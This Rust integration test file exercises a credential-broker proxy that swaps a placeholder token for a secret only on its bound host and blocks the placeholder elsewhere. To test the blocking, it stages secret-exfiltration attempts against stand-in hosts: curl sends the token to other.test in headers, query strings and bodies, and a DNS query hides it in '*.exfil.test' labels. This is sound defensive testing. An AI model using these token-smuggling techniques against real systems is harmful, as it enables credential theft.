//! The credential broker on loopback: a test CA (rcgen) signs the upstream's certificate
//! and is the broker's extra root; an HTTPS server (hyper, h1 and h2) records what it
//! receives; `curl` goes through the proxy trusting the broker's CA.

use std::convert::Infallible;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::path::PathBuf;
use std::pin::Pin;
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};
use std::task::{Context, Poll};

use bytes::Bytes;
use efr_proxy::broker::{Broker, BrokerCredential, Ca, Send};
use efr_proxy::{HostRule, Proxy, ProxyPolicy};
use efr_sandbox_wire::summary::BlockReason;
use http::{Request, Response};
use http_body_util::BodyExt;
use hyper::body::{Body, Frame, Incoming};
use hyper_util::rt::{TokioExecutor, TokioIo};
use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, Issuer, KeyPair};
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};

const SECRET: &str = "ghp_realSECRETrealSECRETreal0123456789";
const PH: &str = "ghp_placeHOLDERplaceHOLDERpla987654321";

/// What the upstream received, per request.
#[derive(Debug, Clone, Default)]
struct Seen {
    version: String,
    host: String,
    target: String,
    auth: String,
    api_key: String,
    body_len: u64,
}

struct Upstream {
    port: u16,
    seen: Arc<Mutex<Vec<Seen>>>,
}

struct World {
    _dir: tempfile::TempDir,
    rt: tokio::runtime::Runtime,
    test_ca_pem: PathBuf,
    ca: Arc<Ca>,
    up: Upstream,
    /// A server whose certificate no root trusts.
    untrusted: Upstream,
}

fn leaf(
    names: &[&str],
    issuer: &Issuer<'_, KeyPair>,
) -> (CertificateDer<'static>, PrivateKeyDer<'static>) {
    let key = KeyPair::generate().unwrap();
    let mut p =
        CertificateParams::new(names.iter().map(|s| s.to_string()).collect::<Vec<_>>()).unwrap();
    p.distinguished_name.push(DnType::CommonName, names[0]);
    let cert = p.signed_by(&key, issuer).unwrap();
    (
        cert.der().clone(),
        PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
    )
}

fn test_ca() -> (String, Issuer<'static, KeyPair>) {
    let key = KeyPair::generate().unwrap();
    let mut p = CertificateParams::new(Vec::<String>::new()).unwrap();
    p.distinguished_name
        .push(DnType::CommonName, "efr broker test CA");
    p.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    let cert = p.self_signed(&key).unwrap();
    (cert.pem(), Issuer::new(p, key))
}

/// A body of `n` bytes of `z`, made as it is read.
struct Zeros(u64);

static ZS: [u8; 65536] = [b'z'; 65536];

impl Body for Zeros {
    type Data = Bytes;
    type Error = Infallible;
    fn poll_frame(
        mut self: Pin<&mut Self>,
        _: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        if self.0 == 0 {
            return Poll::Ready(None);
        }
        let n = self.0.min(ZS.len() as u64);
        self.0 -= n;
        Poll::Ready(Some(Ok(Frame::data(Bytes::from_static(&ZS[..n as usize])))))
    }
}

type B = http_body_util::combinators::BoxBody<Bytes, Infallible>;

async fn handle(
    seen: Arc<Mutex<Vec<Seen>>>,
    req: Request<Incoming>,
) -> Result<Response<B>, Infallible> {
    let h = |n: &str| {
        req.headers()
            .get(n)
            .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
            .unwrap_or_default()
    };
    let mut s = Seen {
        version: format!("{:?}", req.version()),
        host: req
            .uri()
            .host()
            .map(str::to_string)
            .unwrap_or_else(|| h("host")),
        target: req
            .uri()
            .path_and_query()
            .map(|p| p.to_string())
            .unwrap_or_default(),
        auth: h("authorization"),
        api_key: h("x-api-key"),
        body_len: 0,
    };
    let path = req.uri().path().to_string();
    let mut body = req.into_body();
    // An aborted body ends the loop at its first error.
    while let Some(Ok(f)) = body.frame().await {
        s.body_len += f.into_data().map(|d| d.len() as u64).unwrap_or(0);
    }
    let echo = format!(
        "auth={}\nkey={}\ntarget={}\nlen={}\n",
        s.auth, s.api_key, s.target, s.body_len
    );
    let auth = s.auth.clone();
    seen.lock().unwrap().push(s);
    if let Some(n) = path.strip_prefix("/big/") {
        let n: u64 = n.parse().unwrap_or(0);
        return Ok(Response::new(Zeros(n).boxed()));
    }
    let mut r = Response::new(http_body_util::Full::new(Bytes::from(echo)).boxed());
    if let Ok(v) = http::HeaderValue::from_str(&auth) {
        r.headers_mut().insert("x-echo-auth", v);
    }
    Ok(r)
}

fn serve_https(
    rt: &tokio::runtime::Runtime,
    cert: CertificateDer<'static>,
    key: PrivateKeyDer<'static>,
) -> Upstream {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    l.set_nonblocking(true).unwrap();
    let port = l.local_addr().unwrap().port();
    let mut cfg = rustls::ServerConfig::builder_with_provider(Arc::new(
        #[allow(deprecated)]
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(vec![cert], key)
    .unwrap();
    cfg.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
    let acc = tokio_rustls::TlsAcceptor::from(Arc::new(cfg));
    let seen = Arc::new(Mutex::new(Vec::new()));
    let s2 = seen.clone();
    rt.spawn(async move {
        let l = tokio::net::TcpListener::from_std(l).unwrap();
        loop {
            let Ok((tcp, _)) = l.accept().await else {
                continue;
            };
            let (acc, seen) = (acc.clone(), s2.clone());
            tokio::spawn(async move {
                let Ok(tls) = acc.accept(tcp).await else {
                    return;
                };
                let svc = hyper::service::service_fn(move |r| handle(seen.clone(), r));
                let _ = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new())
                    .serve_connection_with_upgrades(TokioIo::new(tls), svc)
                    .await;
            });
        }
    });
    Upstream { port, seen }
}

/// One test at a time: the RSS measurement reads the whole test process.
static SERIAL: Mutex<()> = Mutex::new(());

fn world() -> (std::sync::MutexGuard<'static, ()>, World) {
    let guard = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = tempfile::tempdir().unwrap();
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let (pem, issuer) = test_ca();
    let test_ca_pem = dir.path().join("test-ca.pem");
    std::fs::write(&test_ca_pem, pem).unwrap();
    let (c, k) = leaf(&["api.test", "other.test"], &issuer);
    let up = serve_https(&rt, c, k);
    let (_, stranger) = test_ca();
    let (c, k) = leaf(&["bad.test"], &stranger);
    let untrusted = serve_https(&rt, c, k);
    let ca = Arc::new(Ca::load_or_create(&dir.path().join("state")).unwrap());
    let w = World {
        _dir: dir,
        rt,
        test_ca_pem,
        ca,
        up,
        untrusted,
    };
    (guard, w)
}

impl World {
    fn proxy(&self, send: Send, broker: bool) -> (Proxy, u16) {
        let mut p = ProxyPolicy::default();
        let lo = vec![IpAddr::V4(Ipv4Addr::LOCALHOST)];
        for (h, port) in [
            ("api.test", self.up.port),
            ("other.test", self.up.port),
            ("bad.test", self.untrusted.port),
        ] {
            p.grants.push(HostRule::new(h, Some(port), false).unwrap());
            p.map(h, lo.clone());
        }
        if broker {
            let cred = BrokerCredential {
                name: "forge".into(),
                hosts: vec![("api.test".into(), self.up.port)],
                secret: SECRET.into(),
                placeholder: PH.into(),
                send,
            };
            let b = Broker::new(
                self.ca.clone(),
                std::slice::from_ref(&self.test_ca_pem),
                vec![cred],
            )
            .unwrap();
            p.broker = Some(Arc::new(b));
        }
        let proxy = Proxy::new(p);
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.set_nonblocking(true).unwrap();
        let port = l.local_addr().unwrap().port();
        let p2 = proxy.clone();
        self.rt.spawn(async move {
            let l = tokio::net::TcpListener::from_std(l).unwrap();
            p2.serve_tcp(l).await
        });
        (proxy, port)
    }

    fn curl(&self, proxy: u16, args: &[&str], url: &str) -> Output {
        let t = std::time::Instant::now();
        let o = Command::new("curl")
            .args(["-sS", "-i", "--max-time", "20", "--noproxy", ""])
            .arg("--proxy")
            .arg(format!("http://127.0.0.1:{proxy}"))
            .arg("--cacert")
            .arg(self.ca.cert_path())
            .args(args)
            .arg(url)
            .output()
            .unwrap();
        eprintln!("curl {args:?} {url}: {:?} {}", t.elapsed(), o.status);
        o
    }

    fn url(&self, host: &str, path: &str) -> String {
        let port = if host == "bad.test" {
            self.untrusted.port
        } else {
            self.up.port
        };
        format!("https://{host}:{port}{path}")
    }

    fn last_seen(&self) -> Seen {
        self.up
            .seen
            .lock()
            .unwrap()
            .last()
            .cloned()
            .expect("the upstream saw a request")
    }
}

fn out(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

#[test]
fn bearer_swapped_for_the_bound_host_and_echo_masked_h1_and_h2() {
    let (_serial, w) = world();
    let (proxy, port) = w.proxy(Send::Bearer, true);
    for (flag, version) in [("--http1.1", "HTTP/1.1"), ("--http2", "HTTP/2.0")] {
        let o = w.curl(
            port,
            &[flag, "-H", &format!("Authorization: Bearer {PH}")],
            &w.url("api.test", "/user?x=1"),
        );
        let text = out(&o);
        assert!(o.status.success(), "{text}");
        let s = w.last_seen();
        assert_eq!(s.auth, format!("Bearer {SECRET}"), "{flag}");
        assert_eq!(s.version, version, "{flag}");
        // The echo (body and header) shows the placeholder, never the secret.
        assert!(!text.contains(SECRET), "{flag}: {text}");
        assert!(text.contains(&format!("auth=Bearer {PH}")), "{text}");
        assert!(
            text.to_lowercase()
                .contains(&format!("x-echo-auth: bearer {}", PH.to_lowercase())),
            "{text}"
        );
    }
    let used = proxy.summary().credentials_used;
    assert_eq!(used.len(), 1, "{used:?}");
    assert_eq!(
        (
            used[0].name.as_str(),
            used[0].host.as_str(),
            used[0].method.as_str(),
            used[0].path.as_str(),
            used[0].count
        ),
        ("forge", "api.test", "GET", "/user", 2)
    );
    assert!(!format!("{:?}", proxy.summary()).contains(SECRET));
    assert!(!format!("{:?}", proxy.policy()).contains(SECRET));
}

#[test]
fn basic_header_and_query_swaps() {
    let (_serial, w) = world();
    let (_p, port) = w.proxy(
        Send::Basic {
            user: "x-access-token".into(),
        },
        true,
    );
    let o = w.curl(
        port,
        &["-u", &format!("x-access-token:{PH}")],
        &w.url("api.test", "/repo.git/info/refs"),
    );
    assert!(o.status.success(), "{}", out(&o));
    use base64::Engine;
    let want = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{SECRET}"));
    assert_eq!(w.last_seen().auth, format!("Basic {want}"));
    assert!(
        !out(&o).contains(&want),
        "the echoed Basic form is masked: {}",
        out(&o)
    );

    let (_p, port) = w.proxy(Send::Header("X-Api-Key".into()), true);
    let o = w.curl(
        port,
        &["-H", &format!("X-Api-Key: {PH}")],
        &w.url("api.test", "/v1"),
    );
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(w.last_seen().api_key, SECRET);

    let (_p, port) = w.proxy(Send::Query("key".into()), true);
    let o = w.curl(port, &[], &w.url("api.test", &format!("/v1?a=1&key={PH}")));
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(w.last_seen().target, format!("/v1?a=1&key={SECRET}"));
    assert!(!out(&o).contains(SECRET));
}

fn assert_refused(w: &World, proxy: &Proxy, o: &Output, before: usize) {
    let text = out(o);
    assert!(text.starts_with("HTTP/") && text.contains(" 403"), "{text}");
    assert!(
        text.to_lowercase()
            .contains("x-efr-block-reason: credential"),
        "{text}"
    );
    assert!(
        text.contains("a credential placeholder for forge was sent to other.test"),
        "{text}"
    );
    assert!(text.contains("it is only sent to api.test"), "{text}");
    assert_eq!(
        w.up.seen.lock().unwrap().len(),
        before,
        "the upstream saw nothing"
    );
    let b = proxy.blocked_all();
    assert!(
        b.iter()
            .any(|b| b.host == "other.test" && b.reason == BlockReason::Credential),
        "{b:?}"
    );
}

#[test]
fn placeholder_to_another_host_refused_in_header_url_and_body() {
    let (_serial, w) = world();
    let (proxy, port) = w.proxy(Send::Bearer, true);
    for flag in ["--http1.1", "--http2"] {
        let n = w.up.seen.lock().unwrap().len();
        let o = w.curl(
            port,
            &[flag, "-H", &format!("Authorization: Bearer {PH}")],
            &w.url("other.test", "/"),
        );
        assert_refused(&w, &proxy, &o, n);
        let n = w.up.seen.lock().unwrap().len();
        let o = w.curl(
            port,
            &[flag],
            &w.url("other.test", &format!("/paste?t={PH}")),
        );
        assert_refused(&w, &proxy, &o, n);
    }
    // In a body, across what are chunks on the way: the placeholder straddles 64 KiB.
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("body");
    let mut body = vec![b'a'; 65536 - 7];
    body.extend_from_slice(PH.as_bytes());
    body.extend(vec![b'b'; 300_000]);
    std::fs::write(&f, &body).unwrap();
    for flag in ["--http1.1", "--http2"] {
        let o = w.curl(
            port,
            &[flag, "--data-binary", &format!("@{}", f.display())],
            &w.url("other.test", "/upload"),
        );
        let text = out(&o);
        assert!(
            text.contains(" 403") && text.contains("in the body"),
            "{flag}: {text}"
        );
    }
    // The same body to the bound host passes (a bound host gets what the call uploads).
    let o = w.curl(
        port,
        &["--data-binary", &format!("@{}", f.display())],
        &w.url("api.test", "/upload"),
    );
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(w.last_seen().body_len, body.len() as u64);
    // A request to the other host without a placeholder still goes (terminated, relayed).
    let o = w.curl(port, &[], &w.url("other.test", "/fine"));
    assert!(
        o.status.success() && out(&o).contains("target=/fine"),
        "{}",
        out(&o)
    );
    assert_eq!(w.last_seen().host, "other.test");
}

#[test]
fn untrusted_upstream_is_a_502_that_says_why() {
    let (_serial, w) = world();
    let (proxy, port) = w.proxy(Send::Bearer, true);
    let o = w.curl(port, &[], &w.url("bad.test", "/"));
    let text = out(&o);
    assert!(text.contains(" 502"), "{text}");
    assert!(
        text.contains("cannot reach bad.test") && text.to_lowercase().contains("certificate"),
        "{text}"
    );
    assert!(w.untrusted.seen.lock().unwrap().is_empty());
    assert!(proxy.stats().upstream_errors >= 1);
}

#[test]
fn without_a_broker_the_tunnel_is_unchanged() {
    let (_serial, w) = world();
    let (_p, port) = w.proxy(Send::Bearer, false);
    // The upstream's own certificate reaches curl: the broker CA does not verify it...
    let o = w.curl(port, &[], &w.url("api.test", "/"));
    assert!(!o.status.success(), "{}", out(&o));
    // ...the test CA does, and the placeholder goes unswapped.
    let o = Command::new("curl")
        .args([
            "-sS",
            "--noproxy",
            "",
            "--proxy",
            &format!("http://127.0.0.1:{port}"),
        ])
        .arg("--cacert")
        .arg(&w.test_ca_pem)
        .args(["-H", &format!("Authorization: Bearer {PH}")])
        .arg(w.url("api.test", "/"))
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(w.last_seen().auth, format!("Bearer {PH}"));
}

fn rss_kib() -> u64 {
    let s = std::fs::read_to_string("/proc/self/status").unwrap();
    s.lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap()
}

#[test]
fn fifty_megabytes_streamed_both_ways_without_growing_rss() {
    let (_serial, w) = world();
    let (_p, port) = w.proxy(Send::Bearer, true);
    let size: u64 = 50 << 20;
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("up");
    std::fs::write(&f, vec![b'u'; size as usize]).unwrap();
    // Warm up (leaf, TLS), then measure.
    let o = w.curl(port, &[], &w.url("api.test", "/big/10"));
    assert!(o.status.success());
    let before = rss_kib();
    for flag in ["--http1.1", "--http2"] {
        let o = Command::new("curl")
            .args([
                "-sS",
                "-o",
                "/dev/null",
                "-w",
                "%{size_download}",
                flag,
                "--noproxy",
                "",
            ])
            .args(["--proxy", &format!("http://127.0.0.1:{port}")])
            .arg("--cacert")
            .arg(w.ca.cert_path())
            .arg(w.url("api.test", &format!("/big/{size}")))
            .output()
            .unwrap();
        assert_eq!(
            String::from_utf8_lossy(&o.stdout),
            size.to_string(),
            "{flag}: {}",
            out(&o)
        );
        let o = w.curl(
            port,
            &[
                flag,
                "--data-binary",
                &format!("@{}", f.display()),
                "-H",
                &format!("Authorization: Bearer {PH}"),
            ],
            &w.url("api.test", "/upload"),
        );
        assert!(o.status.success(), "{}", out(&o));
        assert_eq!(w.last_seen().body_len, size);
    }
    let grown = rss_kib().saturating_sub(before);
    // 4 x 50 MB went through; buffering any of it whole would show.
    assert!(grown < 24 << 10, "RSS grew by {grown} KiB");
}

#[test]
fn placeholder_in_a_dns_name_is_refused() {
    let (_serial, w) = world();
    let (proxy, _port) = w.proxy(Send::Bearer, true);
    let mut p = proxy.policy().clone();
    p.allow
        .push(HostRule::new("*.exfil.test", None, false).unwrap());
    let proxy = Proxy::new(p);
    let table = Arc::new(efr_proxy::dns::NameTable::new(
        proxy.policy().clone(),
        efr_proxy::dns::SYNTHETIC_BASE,
    ));
    let sock = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let addr: SocketAddr = sock.local_addr().unwrap();
    sock.set_nonblocking(true).unwrap();
    let p2 = proxy.clone();
    w.rt.spawn(async move {
        let s = tokio::net::UdpSocket::from_std(sock).unwrap();
        p2.serve_dns(s, table).await
    });
    let client = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    client
        .set_read_timeout(Some(std::time::Duration::from_secs(2)))
        .unwrap();
    // The placeholder split over two labels, in upper case.
    let (a, b) = PH.split_at(20);
    let name = format!("{}.{}.exfil.test", a.to_uppercase(), b);
    let q = query(&name);
    client.send_to(&q, addr).unwrap();
    let mut buf = [0u8; 512];
    let n = client.recv(&mut buf).unwrap_or(0);
    assert!(n == 0 || buf[3] & 0x0f != 0, "no address for it");
    let b = proxy.blocked_all();
    assert!(
        b.iter().any(|b| b.reason == BlockReason::Credential),
        "{b:?}"
    );
}

fn query(name: &str) -> Vec<u8> {
    let mut q = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    for l in name.split('.') {
        q.push(l.len() as u8);
        q.extend_from_slice(l.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    q
}

#[test]
fn placeholder_in_a_plain_http_request_is_refused() {
    let (_serial, w) = world();
    let (proxy, _) = w.proxy(Send::Bearer, true);
    let mut p = proxy.policy().clone();
    p.grants
        .push(HostRule::new("plain.test", Some(w.up.port), true).unwrap());
    p.map("plain.test", vec![IpAddr::V4(Ipv4Addr::LOCALHOST)]);
    let proxy = Proxy::new(p);
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    l.set_nonblocking(true).unwrap();
    let port = l.local_addr().unwrap().port();
    let p2 = proxy.clone();
    w.rt.spawn(async move {
        p2.serve_tcp(tokio::net::TcpListener::from_std(l).unwrap())
            .await
    });
    let n = w.up.seen.lock().unwrap().len();
    let o = Command::new("curl")
        .args([
            "-sS",
            "-i",
            "--noproxy",
            "",
            "--proxy",
            &format!("http://127.0.0.1:{port}"),
        ])
        .args(["-H", &format!("X-Token: {PH}")])
        .arg(format!("http://plain.test:{}/", w.up.port))
        .output()
        .unwrap();
    let text = out(&o);
    assert!(
        text.contains(" 403")
            && text
                .to_lowercase()
                .contains("x-efr-block-reason: credential"),
        "{text}"
    );
    assert!(
        text.contains("a credential placeholder for forge was sent to plain.test"),
        "{text}"
    );
    assert_eq!(w.up.seen.lock().unwrap().len(), n);
    assert!(
        proxy
            .blocked_all()
            .iter()
            .any(|b| b.host == "plain.test" && b.reason == BlockReason::Credential)
    );
}
